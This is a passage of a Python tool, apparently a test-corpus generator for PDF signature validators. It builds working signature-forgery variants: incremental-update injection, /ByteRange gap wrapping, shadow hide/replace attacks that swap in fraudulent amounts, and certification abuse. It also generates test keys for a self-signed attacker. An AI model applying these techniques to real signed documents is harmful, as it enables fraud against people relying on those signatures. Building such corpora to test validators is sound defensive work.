    return up.build()


@variant("isa-no-xref", "ISA: objects appended after %%EOF without an xref (for repairing viewers)")
def _(pdf, args):
    page = pdf.pages()[0]
    p = dict(pdf.get(page))
    n = pdf.size
    p["/Contents"] = Ref(n)
    body = b"%d 0 obj\n" % n + fmt(stream(b"q 1 0 0 rg 90 600 420 90 re f Q\n")) + b"\nendobj\n"
    body += b"%d 0 obj\n" % page + fmt(p) + b"\nendobj\n"
    return pdf.data + (b"" if pdf.data.endswith(b"\n") else b"\n") + body


@variant("isa-hidden-object", "ISA: an update whose bytes hold a page object its xref does not list")
def _(pdf, args):
    up = Update(pdf)
    page = pdf.pages()[0]
    p = dict(pdf.get(page))
    extra = up.new(stream(b"q 1 0 0 rg 90 600 420 90 re f Q\n"))
    p["/Contents"] = extra
    # The page's new definition sits in the update's bytes, outside the xref:
    # a viewer that rebuilds the xref by scanning takes it, one that reads
    # the xref does not.
    hidden = b"%d 0 obj\n" % page + fmt(p) + b"\nendobj\n"
    info = up.new({"/Producer": Str(b"pdf_tamper")})
    return up.build(trailer_extra={"/Info": info}, raw_body=hidden)


@variant("isa-no-prev", "ISA: an update whose trailer has no /Prev (a whole new xref)")
def _(pdf, args):
    up = Update(pdf)
    page = pdf.pages()[0]
    p = pdf.get(page)
    page_with(pdf, up, page, **{"/Contents": up.new(stream(RED_BOX)), "/Resources": font_resources(pdf, up, p)})
    # Every other object listed again at its old offset, no /Prev.
    for num, e in pdf.xref.items():
        if e[0] == "n" and num not in up.objects:
            up.raw[num] = (e[1], e[2])
    return up.build(prev=False)


# Signature wrapping and gap injection.


def sig_layout(pdf, signum):
    d = pdf.get(signum)
    start, end = pdf.sig_dict_span(signum)
    br = d["/ByteRange"]
    return d, start, end, br


def der_hex(d):
    """The CMS in /Contents without its zero padding (four zero bytes kept:
    a BER indefinite length ends in end-of-contents octets)."""
    der = bytes(d["/Contents"]).rstrip(b"\0") + bytes(4)
    return der.hex().encode()


@variant("swa-widened-gap", "SWA in place: /ByteRange widened so the gap also holds an injected object")
def _(pdf, args):
    data = bytearray(pdf.data)
    _, _, signum = target_sigs(pdf, args)[-1]
    d, start, end, br = sig_layout(pdf, signum)
    a, b, c = br[1], br[2], br[3]
    # Shorten /Contents (drop trailing zero padding) and use the room for an
    # object inside the gap; the gap [a, b) is then more than the string.
    contents = bytes(data[a:b])
    inject = b"> >>\nendobj\n999 0 obj\n(injected) "
    # Where the signer left no padding, the CMS is cut short to make room:
    # the check that must fire is the gap's, before any digest.
    hexed = der_hex(d)[: len(contents) - 2 - len(inject) - 8]
    new = b"<" + hexed + inject
    new += b" " * (len(contents) - 1 - len(new)) + b"%"
    data[a:b] = new
    # The original dictionary end ">>" after the gap is now inside a comment.
    return bytes(data)


@variant("swa-shorter-contents", "SWA in place: a shorter /Contents string, the rest of the gap another key")
def _(pdf, args):
    data = bytearray(pdf.data)
    _, _, signum = target_sigs(pdf, args)[-1]
    d, start, end, br = sig_layout(pdf, signum)
    a, b = br[1], br[2]
    filler = b"> /Injected ("
    hexed = der_hex(d)[: (b - a) - 2 - len(filler) - 16]
    rest = (b - a) - 1 - len(hexed) - len(filler) - 1
    data[a:b] = b"<" + hexed + filler + b"x" * rest + b")"
    return bytes(data)


@variant("swa-moved-gap", "SWA in place: /ByteRange rewritten to skip different bytes (same digits)")
def _(pdf, args):
    def edit(obj):
        m = re.search(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)", bytes(obj))
        a, b, c = (int(x) for x in m.groups())
        new = b"%d %d %d" % (a - 1, b - 1, c + 1)
        old = bytes(obj[m.start(1) : m.end(3)])
        new = new + b" " * (len(old) - len(new))
        return bytes(obj[: m.start(1)]) + new[: len(old)] + bytes(obj[m.end(3) :])

    return in_place(pdf, args, edit)


def attacker(args):
    if not (args.key and args.cert):
        raise SystemExit("pdf_tamper: this variant signs: give --key and --cert")
    return Signer(args.key, args.cert, args.chain, md=args.md, cades=args.cades, noattr=args.noattr,
                  ber=args.ber)


def swa_signed_gap(pdf, args):
    """Built by hand: the update's objects, the signature dictionary whose
    gap holds the injected stream, the xref listing it; then signed."""
    up = Update(pdf)
    page = pdf.pages()[0]
    p = pdf.get(page)
    field = new_sig_field(pdf, up, page, [0, 0, 0, 0], "wrapped")
    signum = up.new()
    injected = up.new()
    page_obj = Lexer(up.objects[page][1]).value()
    page_obj["/Contents"] = content_list(pdf, p) + [injected]
    up.set(page, page_obj)
    f = Lexer(up.objects[field][1]).value()
    f["/V"] = signum
    up.set(field, f)
    room = 8192
    placeholder = b"<" + b"0" * (2 * room) + b">"
    gap = (b" >>\nendobj\n%d 0 obj\n" % injected.num +
           fmt(stream(b"q 1 0 0 rg 90 600 420 90 re f Q")) + b"\nendobj\n%")
    up.set(signum, b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached"
                   b" /ByteRange [0 0000000000 0000000000 0000000000]"
                   b" /Contents " + placeholder + gap + b"\n>>")
    data = bytearray(up.build())
    sig_at = data.rindex(b"\n%d 0 obj\n" % signum.num) + 1
    inj_at = data.index(b"\n%d 0 obj\n" % injected.num, sig_at) + 1
    # The xref lists the injected object inside the gap.
    entry = b"%d 1\n%010d 00000 n \n" % (injected.num, inj_at)
    xref_at = int(re.search(rb"startxref\s+(\d+)\s*%%EOF\s*$", bytes(data)).group(1))
    tail = bytes(data[xref_at:]).replace(b"xref\n", b"xref\n" + entry, 1)
    tail = re.sub(rb"startxref\s+\d+", b"startxref\n%d" % xref_at, tail)
    data = data[:xref_at] + tail
    a = data.index(b"/Contents <", sig_at) + len(b"/Contents ")
    b = data.index(b"\n>>", inj_at)
    c = len(data) - b
    br = b"[0 %010d %010d %010d]" % (a, b, c)
    at = data.index(b"[0 0000000000 0000000000 0000000000]", sig_at)
    data[at : at + len(br)] = br
    der = attacker(args).sign(bytes(data[:a]) + bytes(data[b:]))
    hexed = der.hex().encode()
    data[a + 1 : a + 1 + len(hexed)] = hexed
    return bytes(data)


variant("swa-signed-gap", "SWA: a new signature whose CMS verifies, but whose gap also holds an "
        "unsigned content stream that page 1 uses")(swa_signed_gap)


# Shadow attacks: content planted before signing (see `plant`), revealed by
# a later update that only changes a reference or a flag.


def planted(pdf):
    page = pdf.pages()[0]
    p = pdf.get(page)
    res = resources_of(pdf, p)
    xo = pdf.resolve(res.get("/XObject")) or {}
    if "/Cover" not in xo or "/Shadow" not in xo:
        raise SystemExit("pdf_tamper: the input was not made with `plant`")
    return page, p, res, xo


@variant("shadow-hide", "Shadow hide: the cover drawn over planted content redefined as empty")
def _(pdf, args):
    up = Update(pdf)
    _, _, _, xo = planted(pdf)
    cover = pdf.get(xo["/Cover"])
    up.set(xo["/Cover"], form_xobject(b"", cover.dict["/BBox"]))
    return up.build()


@variant("shadow-hide-layer", "Shadow hide: the optional-content layer turned on in the catalog")
def _(pdf, args):
    up = Update(pdf)
    root = dict(pdf.root)
    props_ref = root["/OCProperties"]
    props = dict(pdf.resolve(props_ref))
    d = dict(props["/D"])
    d["/ON"] = list(d.get("/OFF", []))
    d["/OFF"] = []
    props["/D"] = d
    if isinstance(props_ref, Ref):
        up.set(props_ref, props)
    else:
        root["/OCProperties"] = props
        up.set(pdf.root_ref, root)
    return up.build()


@variant("shadow-replace", "Shadow replace: page 1's /Fm0 resource re-pointed to the planted form")
def _(pdf, args):
    up = Update(pdf)
    page, p, res, xo = planted(pdf)
    xo = dict(xo)
    xo["/Fm0"] = xo["/Shadow"]
    res = dict(res)
    if isinstance(res.get("/XObject"), Ref):
        up.set(res["/XObject"], xo)
    else:
        res["/XObject"] = xo
        if isinstance(p.get("/Resources"), Ref):
            up.set(p["/Resources"], res)
        else:
            page_with(pdf, up, page, **{"/Resources": res})
    return up.build()


@variant("shadow-replace-field", "Shadow replace: the hidden overlay field made visible with a new value")
def _(pdf, args):
    up = Update(pdf)
    num = pdf.field("overlay")
    f = dict(pdf.get(num))
    f["/F"] = 4
    f["/V"] = text("EUR 99 999")
    up.set(num, f)
    return up.build()


def form_dict(pdf, up):
    """The form dictionary and how to write it back."""
    root = dict(pdf.root)
    ref = root.get("/AcroForm")
    acro = dict(pdf.resolve(ref) or {})

    def save(new):
        if isinstance(ref, Ref):
            up.set(ref, new)
        else:
            root["/AcroForm"] = new
            up.set(pdf.root_ref, root)

    return acro, save


@variant("shadow-replace-dr-font", "Shadow replace: the form's default font replaced and every field "
         "redrawn (/DR /Font, /NeedAppearances true)")
def _(pdf, args):
    up = Update(pdf)
    acro, save = form_dict(pdf, up)
    dr = dict(pdf.resolve(acro.get("/DR")) or {})
    fonts = dict(pdf.resolve(dr.get("/Font")) or {})
    courier = up.new({"/Type": Name("/Font"), "/Subtype": Name("/Type1"), "/BaseFont": Name("/Courier")})
    for k in list(fonts) or ["/Helv"]:
        fonts[k] = courier
    dr["/Font"] = fonts
    acro["/DR"] = dr
    acro["/NeedAppearances"] = True
    save(acro)
    return up.build()


@variant("isa-acroform-xfa", "ISA: the form dictionary gains an XFA form (shown instead of the pages)")
def _(pdf, args):
    up = Update(pdf)
    acro, save = form_dict(pdf, up)
    acro["/XFA"] = up.new(stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>"))
    save(acro)
    return up.build()


@variant("shadow-hide-field", "Shadow hide: the visible field \"veil\" given an empty appearance, "
         "revealing the line under it (form filling after the last signature)")
def _(pdf, args):
    up = Update(pdf)
    num = pdf.field("veil")
    f = dict(pdf.get(num))
    f["/AP"] = {"/N": up.new(form_xobject(b"", [0, 0, 230, 20]))}
    up.set(num, f)
    return up.build()


@variant("shadow-replace-overlay", "Shadow replace: the visible field \"veil\" filled with a new "
         "amount (form filling after the last signature)")
def _(pdf, args):
    up = Update(pdf)
    num = pdf.field("veil")
    f = dict(pdf.get(num))
    f["/V"] = text("Amount due: EUR 5")
    f["/AP"] = {"/N": up.new(form_xobject(
        b"/Tx BMC q 1 1 1 rg 0 0 230 20 re f BT /F9 12 Tf 0 0 0 rg 2 5 Td (Amount due: EUR 5) Tj ET Q EMC",
        [0, 0, 230, 20], {"/Font": {"/F9": up.new(HELV)}}))}
    up.set(num, f)
    return up.build()


@variant("shadow-hide-and-replace", "Shadow hide-and-replace: page 1's /Contents re-pointed to the planted stream")
def _(pdf, args):
    up = Update(pdf)
    page, p, res, xo = planted(pdf)
    page_with(pdf, up, page, **{"/Contents": xo["/Shadow"]})
    return up.build()


@variant("shadow-xref-only", "Shadow hide-and-replace: only the xref changes, page 1's content "
         "object number pointed at the planted stream's bytes")
def _(pdf, args):
    up = Update(pdf)
    page, p, res, xo = planted(pdf)
    first = content_list(pdf, p)[0]
    shadow = pdf.offset(xo["/Shadow"].num)
    if shadow is None:
        raise SystemExit("pdf_tamper: the planted stream is in an object stream")
    # The bytes say "N 0 obj" for the shadow's number: a lenient reader
    # takes the object at the offset whatever its number.
    up.raw[first.num] = (shadow, 0)
    return up.build()


# Certification abuse.


@variant("evil-annotation", "Certification abuse: a Stamp annotation covering the amount")
def _(pdf, args):
    up = Update(pdf)
    page = pdf.pages()[0]
    p = pdf.get(page)
    ap = up.new(form_xobject(b"q 1 1 1 rg 0 0 300 60 re f BT /F9 20 Tf 0 0 0 rg 6 20 Td (EUR 99 999) Tj ET Q",
                             [0, 0, 300, 60], {"/Font": {"/F9": up.new(HELV)}}))
    a = up.new({"/Type": Name("/Annot"), "/Subtype": Name("/Stamp"), "/Rect": [90, 600, 390, 660],
                "/F": 4, "/AP": {"/N": ap}, "/P": Ref(page)})
    page_with(pdf, up, page, **{"/Annots": list(pdf.resolve(p.get("/Annots")) or []) + [a]})
    return up.build()


@variant("evil-annotation-widget", "Certification abuse: a widget that no field lists, with an appearance")
def _(pdf, args):
    up = Update(pdf)
    page = pdf.pages()[0]
    p = pdf.get(page)
    ap = up.new(form_xobject(b"q 1 0 0 rg 0 0 300 60 re f Q", [0, 0, 300, 60]))
    a = up.new({"/Type": Name("/Annot"), "/Subtype": Name("/Widget"), "/Rect": [90, 600, 390, 660],
                "/F": 4, "/AP": {"/N": ap}, "/P": Ref(page)})
    page_with(pdf, up, page, **{"/Annots": list(pdf.resolve(p.get("/Annots")) or []) + [a]})
    return up.build()


SNEAKY_AP = b"q 1 1 1 rg 0 0 420 90 re f BT /F9 28 Tf 1 0 0 rg 10 30 Td (PAY EUR 99 999) Tj ET Q"


@variant("sneaky-signature", "Certification abuse: a new signature field with an appearance over the "
         "content, not signed")
def _(pdf, args):
    up = Update(pdf)
    page = pdf.pages()[0]
    new_sig_field(pdf, up, page, [90, 600, 510, 690], "sneaky",
                  form_xobject(SNEAKY_AP, [0, 0, 420, 90], {"/Font": {"/F9": up.new(HELV)}}))
    return up.build()


@variant("sneaky-signature-signed", "Certification abuse: a new signature field with an appearance over "
         "the content, signed with the attacker's key")
def _(pdf, args):
    up = Update(pdf)
    page = pdf.pages()[0]
    field = new_sig_field(pdf, up, page, [90, 600, 510, 690], "sneaky",
                          form_xobject(SNEAKY_AP, [0, 0, 420, 90], {"/Font": {"/F9": up.new(HELV)}}))
    return sign_update(pdf, up, attacker(args), [field])


@variant("cert-perms-removed", "Certification abuse: the catalog's /Perms removed after certification")
def _(pdf, args):
    up = Update(pdf)
    root = dict(pdf.root)
    root.pop("/Perms", None)
    up.set(pdf.root_ref, root)
    return up.build()


# Untampered updates and other signers (no false alarms).


@variant("allowed-info", "Allowed: document info and metadata updated after the last signature")
def _(pdf, args):
    up = Update(pdf)
    info = up.new({"/Producer": Str(b"pdf_tamper"), "/ModDate": Str(b"D:20261124090000Z")})
    return up.build(trailer_extra={"/Info": info})


@variant("sign", "Another signer: sign a new invisible signature field with openssl cms "
         "(--cades for ETSI.CAdES.detached, --md, --noattr, --ber, --docmdp P for a certification)")
def _(pdf, args):
    up = Update(pdf)
    page = pdf.pages()[0]
    field = new_sig_field(pdf, up, page, [0, 0, 0, 0], args.field)
    subfilter = "ETSI.CAdES.detached" if args.cades else "adbe.pkcs7.detached"
    data_extra = None
    if args.docmdp:
        sig = up.next  # the signature dictionary is the next object
        root_num = pdf.root_ref.num
        root = Lexer(up.objects[root_num][1]).value() if root_num in up.objects else dict(pdf.root)
        root["/Perms"] = {"/DocMDP": Ref(sig)}
        up.set(pdf.root_ref, root)
        data_extra = args.docmdp
    return sign_update(pdf, up, attacker(args), [field], subfilter=subfilter, docmdp=data_extra,
                       room=args.room)


@variant("sign-two-signers", "Another signer: a CMS with two SignerInfos (must be refused)")
def _(pdf, args):
    up = Update(pdf)
    page = pdf.pages()[0]
    field = new_sig_field(pdf, up, page, [0, 0, 0, 0], args.field)

    class Two(Signer):
        def sign(self, data):
            with tempfile.TemporaryDirectory() as tmp:
                src, out = os.path.join(tmp, "in"), os.path.join(tmp, "out")
                with open(src, "wb") as f:
                    f.write(data)
                key2, cert2 = os.path.join(tmp, "k2"), os.path.join(tmp, "c2")
                subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                                "ec_paramgen_curve:P-256", "-nodes", "-keyout", key2, "-out", cert2,
                                "-subj", "/CN=Second Signer", "-days", "30"],
                               check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                subprocess.run(["openssl", "cms", "-sign", "-binary", "-nosmimecap", "-outform", "DER",
                                "-in", src, "-out", out, "-signer", self.cert, "-inkey", self.key,
                                "-signer", cert2, "-inkey", key2, "-md", "sha256"],
                               check=True, stdout=subprocess.DEVNULL)
                with open(out, "rb") as f:
                    return f.read()

    return sign_update(pdf, up, Two(args.key, args.cert), [field])


# Keys for the corpus.


@variant("keys", "Makes keys in the directory IN (OUT unused): an outside CA (ca) and its signer "
         "alice, a second CA (ca2) and its signer bob (both signers also in the NSS database IN/nss "
         "for pdfsig), and a self-signed attacker, mallory")
def _(pdf, args):
    raise AssertionError("handled in main()")


def make_keys(d):
    def run(*cmd):
        subprocess.run(cmd, check=True, cwd=d, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "ext.cnf"), "w") as f:
        f.write("[ca]\nbasicConstraints=critical,CA:TRUE\nkeyUsage=critical,keyCertSign,cRLSign\n"
                "subjectKeyIdentifier=hash\n"
                "[leaf]\nbasicConstraints=critical,CA:FALSE\nkeyUsage=critical,digitalSignature,"
                "nonRepudiation\nsubjectKeyIdentifier=hash\nauthorityKeyIdentifier=keyid\n"
                "subjectAltName=email:alice@outside.test\n"
                "[bob]\nbasicConstraints=critical,CA:FALSE\nkeyUsage=critical,digitalSignature\n"
                "subjectKeyIdentifier=hash\nauthorityKeyIdentifier=keyid\n"
                "subjectAltName=email:bob@second.test\n")
    run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "ca.key", "-out", "ca.crt",
        "-days", "3650", "-subj", "/O=Outside Tools/CN=Outside Test CA", "-config", "ext.cnf",
        "-extensions", "ca")
    run("openssl", "req", "-newkey", "rsa:2048", "-nodes", "-keyout", "alice.key", "-out", "alice.csr",
        "-subj", "/O=Outside Tools/CN=Alice Outside")
    run("openssl", "x509", "-req", "-in", "alice.csr", "-CA", "ca.crt", "-CAkey", "ca.key",
        "-CAcreateserial", "-out", "alice.crt", "-days", "3650", "-extfile", "ext.cnf", "-extensions", "leaf")
    # bob: a signer under a second CA (an EC CA; an RSA signer, as pdfsig
    # 22.12 cannot sign with an EC key).
    run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
        "-keyout", "ca2.key", "-out", "ca2.crt", "-days", "3650", "-subj", "/O=Second Tools/CN=Second Test CA",
        "-config", "ext.cnf", "-extensions", "ca")
    run("openssl", "req", "-newkey", "rsa:2048", "-nodes", "-keyout",
        "bob.key", "-out", "bob.csr", "-subj", "/O=Second Tools/CN=Bob Second")
    run("openssl", "x509", "-req", "-in", "bob.csr", "-CA", "ca2.crt", "-CAkey", "ca2.key",
        "-CAcreateserial", "-out", "bob.crt", "-days", "3650", "-extfile", "ext.cnf", "-extensions", "bob")
    run("openssl", "pkcs12", "-export", "-inkey", "bob.key", "-in", "bob.crt", "-certfile", "ca2.crt",
        "-name", "bob", "-out", "bob.p12", "-passout", "pass:")
    run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
        "-keyout", "mallory.key", "-out", "mallory.crt", "-days", "3650", "-subj", "/CN=Mallory")
    run("openssl", "pkcs12", "-export", "-inkey", "alice.key", "-in", "alice.crt", "-certfile", "ca.crt",
        "-name", "alice", "-out", "alice.p12", "-passout", "pass:")
    os.makedirs(os.path.join(d, "nss"), exist_ok=True)
    run("certutil", "-N", "-d", "sql:nss", "--empty-password")
    run("pk12util", "-i", "alice.p12", "-d", "sql:nss", "-W", "")
    run("pk12util", "-i", "bob.p12", "-d", "sql:nss", "-W", "")


# The planted document for the shadow attacks.


@variant("plant", "Plants shadow content in an unsigned PDF: a /Cover form drawn over a blue box, a "
         "/Shadow form (unused), /Fm0 drawn by the page, a layer that is off, a hidden text field "
         "\"overlay\", a visible text field \"veil\" whose white appearance hides a red line")
def _(pdf, args):
    up = Update(pdf)
    page = pdf.pages()[0]
    p = pdf.get(page)
    helv = up.new(HELV)
    fonts = {"/Font": {"/F9": helv}}
    benign = up.new(form_xobject(b"BT /F9 14 Tf 0 0 0 rg 2 6 Td (Amount: EUR 1 000) Tj ET", [0, 0, 200, 24], fonts))
    shadow = up.new(form_xobject(b"BT /F9 14 Tf 1 0 0 rg 2 6 Td (Amount: EUR 99 000) Tj ET", [0, 0, 200, 24], fonts))
    cover = up.new(form_xobject(b"q 1 1 1 rg 0 0 200 30 re f Q", [0, 0, 200, 30]))
    ocg = up.new({"/Type": Name("/OCG"), "/Name": Str(b"Layer 2")})
    res = dict(resources_of(pdf, p))
    xo = dict(pdf.resolve(res.get("/XObject")) or {})
    xo.update({"/Fm0": benign, "/Shadow": shadow, "/Cover": cover})
    res["/XObject"] = up.new(xo)
    props = dict(pdf.resolve(res.get("/Properties")) or {})
    props["/L2"] = ocg
    res["/Properties"] = props
    fonts_all = dict(pdf.resolve(res.get("/Font")) or {})
    fonts_all["/F9"] = helv
    res["/Font"] = fonts_all
    planted_content = up.new(stream(
        b"q 1 0 0 1 72 560 cm /Fm0 Do Q\n"
        b"q 0 0 1 rg 72 520 200 30 re f Q q 1 0 0 1 72 520 cm /Cover Do Q\n"
        b"/OC /L2 BDC q 1 0 0 rg 300 520 200 30 re f Q EMC\n"
        b"BT /F9 12 Tf 1 0 0 rg 74 490 Td (Amount due: EUR 99 000) Tj ET\n"))
    page_obj = {"/Contents": content_list(pdf, p) + [planted_content], "/Resources": res}
    overlay_ap = up.new(form_xobject(b"/Tx BMC q BT /F9 12 Tf 0 0 0 rg 2 5 Td (EUR 99 999) Tj ET Q EMC",
                                     [0, 0, 200, 20], fonts))
    overlay = up.new({"/Type": Name("/Annot"), "/Subtype": Name("/Widget"), "/FT": Name("/Tx"),
                      "/T": Str(b"overlay"), "/Rect": [72, 560, 272, 580], "/F": 2, "/P": Ref(page),
                      "/DA": Str(b"/F9 12 Tf 0 g"), "/V": Str(b"EUR 99 999"), "/AP": {"/N": overlay_ap}})
    # A visible text field whose appearance, an opaque white box, hides the
    # red "Amount due" line under it.
    veil_ap = up.new(form_xobject(b"q 1 1 1 rg 0 0 230 20 re f Q", [0, 0, 230, 20]))
    veil = up.new({"/Type": Name("/Annot"), "/Subtype": Name("/Widget"), "/FT": Name("/Tx"),
                   "/T": Str(b"veil"), "/Rect": [70, 485, 300, 505], "/F": 4, "/P": Ref(page),
                   "/DA": Str(b"/F9 12 Tf 0 g"), "/AP": {"/N": veil_ap}})
    page_obj["/Annots"] = list(pdf.resolve(p.get("/Annots")) or []) + [overlay, veil]
    page_with(pdf, up, page, **page_obj)
    root = dict(pdf.root)
    root["/OCProperties"] = up.new({"/OCGs": [ocg], "/D": {"/Order": [ocg], "/OFF": [ocg]}})
    acro = dict(pdf.resolve(root.get("/AcroForm")) or {})
    acro["/Fields"] = list(pdf.resolve(acro.get("/Fields")) or []) + [overlay, veil]
    acro["/DR"] = fonts
    root["/AcroForm"] = up.new(acro)
    up.set(pdf.root_ref, root)
    return up.build()


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("variant")
    ap.add_argument("input", nargs="?")
    ap.add_argument("output", nargs="?")
    ap.add_argument("--sig", type=int, default=0, help="the signature to tamper with (1-based; 0: all)")
    ap.add_argument("--key")
    ap.add_argument("--cert")
    ap.add_argument("--chain")
    ap.add_argument("--md", default="sha256")
    ap.add_argument("--cades", action="store_true")
    ap.add_argument("--noattr", action="store_true")
    ap.add_argument("--ber", action="store_true", help="BER with indefinite lengths (openssl -stream)")
    ap.add_argument("--room", type=int, default=8192, help="bytes reserved for the CMS")
    ap.add_argument("--docmdp", type=int)
    ap.add_argument("--field", default="other_signer")
    args = ap.parse_args()
    if args.variant == "list":
        for name, (_, doc) in VARIANTS.items():
            print("%-32s %s" % (name, doc))
        return
    if args.variant == "keys" and args.input:
        make_keys(args.input)
        return
    if args.variant not in VARIANTS or not args.input or not args.output:
        ap.error("give a variant (see `list`), IN and OUT")
    with open(args.input, "rb") as f:
        pdf = Pdf(f.read())
    out = VARIANTS[args.variant][0](pdf, args)
    with open(args.output, "wb") as f:
        f.write(out)


if __name__ == "__main__":
    main()
